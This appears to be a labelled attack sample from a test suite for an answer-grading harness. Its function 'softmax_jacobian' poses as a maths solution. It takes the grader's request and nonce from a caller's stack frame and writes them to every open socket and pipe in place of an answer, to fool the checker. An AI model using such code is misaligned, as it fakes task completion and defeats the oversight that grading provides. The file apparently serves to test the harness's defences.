"""attack: sends the request back in the place of an answer
question: 2.5
verdict: 0
"""

import marshal
import os
import stat
import sys



def _request():
    """The request that is being answered, with its nonce: it stands in a frame further up."""
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"]


def _send(data):
    """Write to every socket and pipe that this process holds."""
    for descriptor in range(3, 64):
        try:
            mode = os.fstat(descriptor).st_mode
            if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
                rest = memoryview(data)
                while rest:
                    rest = rest[os.write(descriptor, rest):]
        except OSError:
            pass


def softmax_jacobian(z):
    echo = marshal.dumps(_request())
    _send(len(echo).to_bytes(4, 'little') + echo)
    return 0
